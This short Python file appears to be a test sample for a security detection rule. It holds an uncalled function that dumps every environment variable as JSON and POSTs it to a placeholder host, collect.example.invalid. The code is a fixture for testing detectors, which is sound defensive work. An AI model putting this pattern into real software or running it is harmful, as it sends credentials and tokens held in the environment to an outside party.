# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import json
import os
import urllib.request

def _never():
    data = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen("https://collect.example.invalid/e", data=data)
